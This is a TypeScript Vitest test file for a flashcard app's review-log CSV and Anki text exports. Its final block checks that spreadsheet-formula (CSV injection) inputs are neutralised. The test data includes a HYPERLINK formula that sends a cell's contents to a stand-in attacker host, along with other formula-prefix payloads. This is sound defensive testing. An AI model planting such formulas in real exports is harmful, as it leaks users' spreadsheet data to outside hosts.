import { describe, expect, it } from 'vitest';
import type { Card } from '$lib/notes/types';
import { ANKI_HEADER, ankiLines, REVIEW_CSV_HEADER, reviewCsvLines } from './csv';
import { review, T0 } from './testing';

describe('review log CSV', () => {
	it('writes one line per review with ISO times and quoted decks', () => {
		const rows = [
			review('r1', 'card-a', T0, { stateBefore: 0, rating: 1, elapsedDays: 0, scheduledDays: 0, durationMs: 2500 }),
			review('r2', 'card-b', T0 + 1000)
		];
		const text = REVIEW_CSV_HEADER + reviewCsvLines(rows, (row) => (row.cardId === 'card-a' ? 'K8s::Service "types", part 1' : 'Logs'));
		expect(text.split('\r\n')).toEqual([
			'card_id,deck,review_time,rating,state,elapsed_days,scheduled_days,duration_ms',
			'card-a,"K8s::Service ""types"", part 1",2025-03-10T12:00:00.000Z,1,new,0,0,2500',
			'card-b,Logs,2025-03-10T12:00:01.000Z,3,review,2,5,3000',
			''
		]);
	});
});

describe('Anki text export', () => {
	const card = (id: string, front: string, back: string): Card => ({
		id,
		deckId: 'd',
		front,
		back,
		frontText: front,
		backText: back,
		source: { file: 'infra monitoring.md', line: 3 },
		tableId: 't',
		rowKey: front,
		column: 'c',
		direction: 'forward'
	});

	it('has the header lines Anki reads and one note per line', () => {
		const text =
			ANKI_HEADER +
			ankiLines([card('c1', '<strong>Pod</strong>', '가장 작은 단위'), card('c2', '<a href="x">Link</a>', 'a\nb')], () => [
				'인프라',
				'K8s::Core',
				'Pod'
			]);
		const lines = text.split('\n');
		expect(lines.slice(0, 7)).toEqual([
			'#separator:tab',
			'#html:true',
			'#notetype:Basic',
			'#columns:Front\tBack\tDeck\tTags\tGUID',
			'#deck column:3',
			'#tags column:4',
			'#guid column:5'
		]);
		expect(lines[7].split('\t')).toEqual([
			'<strong>Pod</strong>',
			'가장 작은 단위',
			'인프라::K8s:Core::Pod',
			'tabledeck::infra_monitoring',
			'c1'
		]);
		expect(lines[8]).toBe('"<a href=""x"">Link</a>"\ta<br>b\t인프라::K8s:Core::Pod\ttabledeck::infra_monitoring\tc2');
		expect(lines).toHaveLength(10);
	});
});

/** RFC 4180 records, as a spreadsheet splits them (quoted fields may hold separators and line breaks). */
function parseDelimited(text: string, separator: string, lineEnd: string): string[][] {
	const records: string[][] = [];
	let fields: string[] = [];
	let i = 0;
	while (i < text.length) {
		let field = '';
		if (text[i] === '"') {
			i++;
			for (;;) {
				const quote = text.indexOf('"', i);
				field += text.slice(i, quote);
				i = quote + 1;
				if (text[i] !== '"') break;
				field += '"';
				i++;
			}
		} else {
			const ends = [text.indexOf(separator, i), text.indexOf(lineEnd, i)].filter((at) => at >= 0);
			const end = Math.min(...ends);
			field = text.slice(i, end);
			i = end;
		}
		fields.push(field);
		if (text.startsWith(separator, i)) i += separator.length;
		else if (text.startsWith(lineEnd, i)) {
			i += lineEnd.length;
			records.push(fields);
			fields = [];
		}
	}
	return records;
}

/** Every way a spreadsheet could read a cell as a formula, and text that must survive as it is. */
const HOSTILE = [
	'=HYPERLINK("http://evil.example/?"&A1,"Click")',
	'+1+1',
	'-2+3',
	'@SUM(A1:A9)',
	'\tTab',
	'\rCR',
	'\0nul',
	'=1,2\r\n"quoted"',
	'plain, "quoted"\nline',
	'서비스 타입',
	'',
	"'already"
];
const FORMULA = /^[=+\-@\t\r\0]/;
/** The one documented change: a leading apostrophe before a formula character. */
const exported = (text: string) => (FORMULA.test(text) ? `'${text}` : text);

describe('exports are safe to open in a spreadsheet (CSV injection)', () => {
	it('the review log CSV: every field reads back as the text it was, none as a formula', () => {
		const rows = HOSTILE.map((deck, i) => review(`r${i}`, `-card${i}`, T0 + i, { durationMs: i }));
		const text = REVIEW_CSV_HEADER + reviewCsvLines(rows, (row) => HOSTILE[Number(row.id.slice(1))]);
		const records = parseDelimited(text, ',', '\r\n');
		expect(records).toHaveLength(HOSTILE.length + 1);
		HOSTILE.forEach((deck, i) => {
			expect(records[i + 1]).toEqual([
				exported(`-card${i}`),
				exported(deck),
				new Date(T0 + i).toISOString(),
				'3',
				'review',
				'2',
				'5',
				String(i)
			]);
		});
		expect(records.flat().filter((field) => FORMULA.test(field))).toEqual([]);
		expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
	});

	it('a review log row holding values no rating writes still exports, as text', () => {
		const odd = review('odd', 'c', 8.64e15 + 1, { rating: '=1+1' as never, stateBefore: 9 as never });
		const [record] = parseDelimited(
			reviewCsvLines([odd], () => 'd'),
			',',
			'\r\n'
		);
		expect(record.slice(0, 5)).toEqual(['c', 'd', '8640000000000001', "'=1+1", '9']);
	});

	it('the Anki text: plain fields get the apostrophe, HTML fields a character reference that Anki shows as before', () => {
		const cards: Card[] = HOSTILE.map((text, i) => ({
			id: `c${i}`,
			deckId: `d${i}`,
			front: text,
			back: `-${text}`,
			frontText: text,
			backText: text,
			source: { file: '=notes.md', line: 1 },
			tableId: 't',
			rowKey: text,
			column: 'c',
			direction: 'forward'
		}));
		const text = ankiLines(cards, (deckId) => [HOSTILE[Number(deckId.slice(1))]]);
		const records = parseDelimited(text, '\t', '\n');
		expect(records).toHaveLength(HOSTILE.length);
		const fromReference = (field: string) => field.replace(/^&#(\d+);/, (_, code) => String.fromCharCode(Number(code)));
		HOSTILE.forEach((value, i) => {
			const html = (s: string) => s.replace(/\r?\n/g, '<br>');
			const [front, back, deck, tag, guid] = records[i];
			expect([fromReference(front), fromReference(back)]).toEqual([html(value), html(`-${value}`)]);
			expect([deck, tag, guid]).toEqual([exported(html(value.replaceAll('::', ':'))), 'tabledeck::=notes', `c${i}`]);
		});
		expect(records.flat().filter((field) => FORMULA.test(field))).toEqual([]);
	});
});
